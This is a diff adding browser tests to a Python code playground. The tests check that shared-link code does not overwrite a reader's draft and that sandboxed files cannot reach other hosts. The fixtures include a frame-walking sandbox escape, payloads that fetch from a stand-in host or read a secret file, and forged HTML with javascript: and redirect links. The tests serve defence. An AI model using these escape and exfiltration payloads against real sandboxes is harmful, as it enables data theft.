@@ -1,7 +1,9 @@
 """The playground in a real browser, served by Python's web server: it says of a file what the engine says."""
 
+import base64
 import re
 import threading
+import zlib
 from collections.abc import Callable, Iterator
 from functools import partial
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
@@ -10,6 +12,7 @@ from typing import Any
 
 import pytest
 from axe_playwright_python.base import AXE_FILE_PATH
+from bs4 import BeautifulSoup
 from playwright.sync_api import Browser, BrowserContext, FilePayload, Page, expect
 
 from api.packages import write
@@ -44,6 +47,30 @@ WITHOUT_NUMPY = [
 ]
 PATIENCE_MILLISECONDS = 300_000
 ENDED = "[data-now=done], [data-now=failed], [data-now=numpy], [data-now=unreachable]"
+
+REACHES_OUT = """
+import sys
+frame = sys._getframe()
+while "begins" not in frame.f_locals:
+    frame = frame.f_back
+run = frame.f_locals["begins"].constructor
+try:
+    run({code!r})()
+except BaseException:
+    pass
+"""
+"""A file that finds what is left of the browser in a frame of ours, and runs a script of its own there."""
+LEAVES = {
+    "imports": "return import('http://elsewhere.test/x.js').catch(() => {})",
+    "imports_from_the_host": "return import('/static/secret.json', {with: {type: 'json'}}).catch(() => {})",
+    "loads_a_font": "new FontFace('x', 'url(http://elsewhere.test/x.woff)').load().catch(() => {})",
+    "is_another_worker": "new Worker('data:text/javascript,import(\"http://elsewhere.test/y.js\")')",
+}
+FORGED = """<iframe srcdoc="x"></iframe><meta http-equiv="refresh" content="0;url=//elsewhere.test/">
+<form action="//elsewhere.test"><button>x</button></form><a href="//elsewhere.test/">a</a>
+<a href="javascript:alert(1)">b</a><svg><a xlink:href="//elsewhere.test/"><text>c</text></a></svg>
+<a href="#here">d</a>"""
+"""HTML that a file may give back as its result."""
 
 Opened = Callable[..., Page]
 
@@ -174,3 +201,61 @@ def test_a_file_with_numpy_is_left_to_a_server(opened: Opened) -> None:
     give(page, "import numpy\nclass Value: pass\n")
     page.get_by_role("button", name="Check").click()
     page.locator("[data-now=numpy]").wait_for(state="attached")
+
+
+def shared(text: str) -> str:
+    """The part of an address that holds this text."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(text.encode()) + packer.flush()
+    return f"#code={base64.urlsafe_b64encode(packed).decode().rstrip('=')}"
+
+
+def test_code_that_comes_with_an_address_runs_on_a_click_and_leaves_the_draft_of_the_reader(
+    opened: Opened,
+) -> None:
+    page = opened()
+    give(page, "mine")
+    expect(page.locator("#code")).to_have_value("mine")
+    page.goto("about:blank")
+    page.goto(shared("theirs"))
+    expect(page.locator("#code")).to_have_value("theirs")
+    expect(page.locator(".said")).to_have_attribute("data-now", "shared")
+    expect(page.locator("#checked")).to_be_empty()
+    page.goto("about:blank")
+    page.goto("")
+    expect(page.locator("#code")).to_have_value("mine")
+
+
+def test_an_address_that_unpacks_to_more_than_an_editor_holds_is_not_unpacked(opened: Opened) -> None:
+    page = opened(shared(" " * 100_000_000))
+    page.locator("#playground").wait_for(state="visible")
+    page.locator("[data-now=loading], [data-now=ready]").wait_for(state="attached")
+    expect(page.locator("#code")).to_have_value("")
+
+
+@pytest.mark.parametrize("way", LEAVES)
+def test_a_file_asks_nobody_for_anything(way: str, opened: Opened) -> None:
+    page = opened()
+    page.locator("[data-now=ready]").wait_for(state="attached")
+    asked: list[str] = []
+    page.context.on("request", lambda request: asked.append(request.url))
+    checked(page, f"{RIGHT}\n{REACHES_OUT.format(code=LEAVES[way])}")
+    page.locator("#share").click()
+    assert [url for url in asked if "elsewhere" in url or "secret" in url] == []
+
+
+def test_of_the_html_of_a_result_nothing_is_shown_that_leads_elsewhere(opened: Opened) -> None:
+    shown = opened().evaluate(
+        """async (html) => {
+            const { harmless } = await import(new URL("static/harmless.js", location.href));
+            const place = document.createElement("div");
+            place.replaceChildren(...harmless(html));
+            return place.innerHTML;
+        }""",
+        FORGED,
+    )
+    left = BeautifulSoup(shown, "html.parser")
+    assert not re.search("elsewhere|javascript", shown)
+    assert left.find(["iframe", "meta", "form"]) is None
+    assert [link.get_text() for link in left.find_all("a")] == ["a", "b", "c", "d"]
+    assert [link["href"] for link in left.find_all("a", href=True)] == ["#here"]
